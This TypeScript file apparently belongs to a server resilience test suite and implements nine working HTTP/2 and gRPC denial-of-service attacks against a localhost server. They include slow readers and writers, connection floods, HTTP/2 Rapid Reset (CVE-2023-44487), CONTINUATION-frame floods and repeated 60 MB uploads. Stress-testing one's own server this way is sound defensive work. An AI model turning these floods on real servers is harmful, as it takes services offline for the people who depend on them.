import { connect as connectHttp2 } from 'node:http2';
import { connect, type Socket } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import { FactRequest, UploadReq } from '@tally/stubs';
import {
  callHeaders,
  dataFrames,
  frame,
  frameFlag,
  frameType,
  headerBlock,
  headersFrame,
  preface,
  readFrames,
  uint32,
} from '../http2-frames.js';
import { call, frame as grpcFrame } from '../unary-load.js';

/** What clients do that mean a server ill, or are broken. */
export interface Attack {
  readonly name: string;
  /** How much of it there is: a sentence for the report. */
  readonly extent: string;
  /** Goes on until the process ends; `did` counts what was done, `inPlace` says that it has begun. */
  begin(port: number, did: () => void, inPlace: () => void): void;
}

const streamedUpload = '/tally.v1.TableService/Upload';
/** How long an attacker whose connection is closed takes to come back. */
const comeBackMs = 100;
const tickMs = 10;

/** SETTINGS_INITIAL_WINDOW_SIZE (RFC 9113, section 6.5.2): how much of an answer may be sent. */
const windowSetting = 4;
const noWindow = frame(
  frameType.settings,
  0,
  0,
  Buffer.concat([Buffer.from([0, windowSetting]), uint32(0)]),
);

/** A connection that is made again whenever it is closed; `use` resolves once it is in place. */
function hold(port: number, use: (socket: Socket) => void): Promise<void> {
  return new Promise((resolve) => {
    const open = () => {
      const socket = connect({ port, host: '127.0.0.1', noDelay: true, allowHalfOpen: true });
      socket.on('error', () => {});
      socket.on('connect', () => {
        use(socket);
        resolve();
      });
      socket.on('close', () => setTimeout(open, comeBackMs));
    };
    open();
  });
}

function holdMany(
  port: number,
  connections: number,
  inPlace: () => void,
  use: (socket: Socket) => void,
): void {
  void Promise.all(Array.from({ length: connections }, () => hold(port, use))).then(inPlace);
}

/** Calls `act` so often, until the socket is closed. */
function atRate(socket: Socket, perSecond: number, act: () => void): void {
  const startMs = performance.now();
  let acts = 0;
  const timer = setInterval(() => {
    const due = ((performance.now() - startMs) / 1000) * perSecond;
    for (; acts < due && !socket.destroyed; acts++) act();
  }, tickMs);
  socket.on('close', () => clearInterval(timer));
}

/** Reads what comes, and answers settings and pings, as a client does that is there. */
function answerPings(socket: Socket): void {
  let unread: Buffer = Buffer.alloc(0);
  socket.on('data', (data) => {
    const { frames, used } = readFrames(Buffer.concat([unread, data]));
    unread = Buffer.concat([unread, data]).subarray(used);
    for (const { type, flags, payload } of frames) {
      if ((flags & frameFlag.ack) !== 0) continue;
      if (type === frameType.settings) socket.write(frame(type, frameFlag.ack, 0));
      if (type === frameType.ping) socket.write(frame(type, frameFlag.ack, 0, payload));
    }
  });
  // The server has closed its half.
  socket.on('end', () => socket.destroy());
}

/** The streams that a client may open: odd numbers. */
const streams = (count: number) => Array.from({ length: count }, (_, i) => 2 * i + 1);

const callsPerConnection = 100;
const unsetKey = grpcFrame(FactRequest.encode({ key: 'nobody has set this' }).finish());

const slowReaders: Attack = {
  name: 'slow readers',
  extent: `10 connections with ${callsPerConnection} calls each that never let an answer be sent`,
  begin(port, did, inPlace) {
    holdMany(port, 10, inPlace, (socket) => {
      socket.write(preface);
      socket.write(noWindow);
      answerPings(socket);
      for (const stream of streams(callsPerConnection)) {
        socket.write(headersFrame(callHeaders('/NumStore/Fact'), stream));
        socket.write(dataFrames(unsetKey, stream));
        did();
      }
    });
  },
};

/** The first byte of a message says that it is not compressed, the next four that it has 1 MiB. */
const largePrefix = Buffer.from([0, 0, 0x10, 0, 0]);

const slowWriters: Attack = {
  name: 'slow writers',
  extent:
    `10 connections with ${callsPerConnection} uploads each that send a byte a second; every other ` +
    'upload has said that its message is 1 MiB',
  begin(port, did, inPlace) {
    holdMany(port, 10, inPlace, (socket) => {
      socket.write(preface);
      answerPings(socket);
      for (const stream of streams(callsPerConnection)) {
        socket.write(headersFrame(callHeaders('/Table/Upload'), stream));
        if (stream % 4 === 1) socket.write(dataFrames(largePrefix, stream, false));
        did();
      }
      atRate(socket, callsPerConnection, () => {
        const stream = 2 * Math.floor(Math.random() * callsPerConnection) + 1;
        socket.write(dataFrames(Buffer.of(1), stream, false));
      });
    });
  },
};

const halfOpen: Attack = {
  name: 'half-open connections',
  extent: '500 connections that end in the middle of a frame, and never close or read',
  begin(port, did, inPlace) {
    holdMany(port, 500, inPlace, (socket) => {
      const headers = headersFrame(callHeaders('/NumStore/Fact'));
      socket.end(Buffer.concat([preface, headers.subarray(0, headers.length - 10)]));
      socket.pause();
      did();
    });
  },
};

const idle: Attack = {
  name: 'idle connections',
  extent: '1,000 connections that answer pings and do nothing else',
  begin(port, did, inPlace) {
    holdMany(port, 1000, inPlace, (socket) => {
      socket.write(preface);
      answerPings(socket);
      did();
    });
  },
};

const resetsPerSecond = 500;
const resetConnections = 4;

/** CVE-2023-44487. */
const rapidResets: Attack = {
  name: 'rapid resets',
  extent: `${resetConnections} connections with ${resetsPerSecond} calls a second each, reset at once`,
  begin(port, did, inPlace) {
    holdMany(port, resetConnections, inPlace, (socket) => {
      let stream = -1;
      socket.write(preface);
      answerPings(socket);
      atRate(socket, resetsPerSecond, () => {
        stream += 2;
        const headers = headersFrame(callHeaders('/NumStore/Fact'), stream);
        socket.write(Buffer.concat([headers, frame(frameType.rstStream, 0, stream, uint32(8))]));
        did();
      });
    });
  },
};

const tinyFramesPerSecond = 1000;
const tinyFrameConnections = 4;
/** A connection's window: no more may be sent before the server says so. */
const windowBytes = 65_535;

const tinyFrames: Attack = {
  name: 'one-byte frames',
  extent: `${tinyFrameConnections} uploads with ${tinyFramesPerSecond} frames of one byte a second each`,
  begin(port, did, inPlace) {
    holdMany(port, tinyFrameConnections, inPlace, (socket) => {
      let sent = 0;
      socket.write(preface);
      answerPings(socket);
      socket.write(headersFrame(callHeaders(streamedUpload)));
      socket.write(dataFrames(largePrefix, 1, false));
      atRate(socket, tinyFramesPerSecond, () => {
        if (++sent + largePrefix.length > windowBytes) return socket.destroy();
        socket.write(dataFrames(Buffer.of(1), 1, false));
        did();
      });
    });
  },
};

const continuationsPerSecond = 100;
const continuationConnections = 8;

const endlessHeaders: Attack = {
  name: 'headers without end',
  extent:
    `${continuationConnections} connections with ${continuationsPerSecond} frames of 1 KB ` +
    'a second each that go on with headers and never end them',
  begin(port, did, inPlace) {
    holdMany(port, continuationConnections, inPlace, (socket) => {
      socket.write(preface);
      answerPings(socket);
      const first = headerBlock(callHeaders('/NumStore/Fact'));
      socket.write(frame(frameType.headers, 0, 1, first));
      let headers = 0;
      atRate(socket, continuationsPerSecond, () => {
        const more = headerBlock([[`x-${headers++}`, 'x'.repeat(1000)]]);
        socket.write(frame(frameType.continuation, 0, 1, more));
        did();
      });
    });
  },
};

const noPreface: Attack = {
  name: 'no preface',
  extent: '500 connections that never send a byte',
  begin(port, did, inPlace) {
    holdMany(port, 500, inPlace, (socket) => {
      socket.on('end', () => socket.destroy());
      socket.resume();
      did();
    });
  },
};

const largeUploads = 8;
const largeUploadBytes = 60_000_000;

const uploads: Attack = {
  name: 'large uploads',
  extent: `${largeUploads} uploads of ${largeUploadBytes / 1e6} MB at once, again and again`,
  begin(port, did, inPlace) {
    const csvData = Buffer.alloc(largeUploadBytes, '1234567\n');
    csvData.write('x'.padStart(7));
    const body = grpcFrame(UploadReq.encode({ csvData }).finish());
    // The first that is over says that uploads are in full swing.
    const tried = once(inPlace);
    const comeBack = async () => {
      for (;;) {
        const session = connectHttp2(`http://127.0.0.1:${port}`);
        session.on('error', () => {});
        await call(session, '/Table/Upload', body).then(did, () => delay(comeBackMs));
        session.close();
        tried();
      }
    };
    for (let i = 0; i < largeUploads; i++) void comeBack();
  },
};

function once(act: () => void): () => void {
  let isDone = false;
  return () => {
    if (!isDone) act();
    isDone = true;
  };
}

export const attacks: readonly Attack[] = [
  slowReaders,
  slowWriters,
  halfOpen,
  idle,
  rapidResets,
  tinyFrames,
  endlessHeaders,
  noPreface,
  uploads,
];
